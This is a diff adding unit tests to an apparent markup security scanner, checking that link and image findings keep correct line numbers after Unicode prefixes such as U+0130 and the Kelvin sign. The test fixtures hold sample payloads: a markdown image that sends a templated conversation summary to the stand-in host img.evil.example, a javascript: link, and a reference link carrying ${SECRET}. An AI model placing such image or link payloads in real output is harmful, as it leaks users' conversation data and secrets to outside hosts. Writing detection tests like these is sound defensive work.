@@ -127,3 +127,27 @@ describe('markup: images that carry data out (SEC028, SEC029)', () => {
     expect(severityOf('<img src="https://example.com/logo.png" width="120" height="40">', 'SEC029')).toBeUndefined();
   });
 });
+
+// Links are found in the raw text, not a lower-cased copy: the two must agree on every place,
+// also where lower-casing changes the length (U+0130) or folds a non-ASCII letter (Kelvin sign).
+describe('markup: links found in the raw text', () => {
+  const linkFindings = (text: string) =>
+    allFindings(scanText(text))
+      .filter((f) => f.code === 'SEC022' || f.code === 'SEC028')
+      .map((f) => `${f.code} ${f.line} ${f.message}`);
+  const bodies = [
+    'See ![chart](https://img.evil.example/p.png?q={{conversation_summary}}) and [Click](JavaScript:alert(1)).\n',
+    'See [docs][1].\n\n[1]: javascript:void(0)\n[2]: https://t.example/?q=${SECRET}\n',
+  ];
+  for (const prefix of ['İSTANBUL \u212A KELVIN\n', 'İ\u212A[x\n', 'ÀÉÎ [a] \u212A!\n']) {
+    it(`reports images, links and references the same after ${JSON.stringify(prefix)}`, () => {
+      const lines = prefix.split('\n').length - 1;
+      for (const body of bodies) {
+        const plain = linkFindings(body);
+        expect(plain.length).toBeGreaterThan(0);
+        expect(linkFindings(prefix + body)).toEqual(plain.map((f) => f.replace(/^(SEC\d+) (\d+)/, (_, c: string, l: string) => `${c} ${Number(l) + lines}`)));
+      }
+      expect(linkFindings(prefix + bodies[0]!).some((f) => f.startsWith('SEC028') && f.includes('markdown image'))).toBe(true);
+    });
+  }
+});
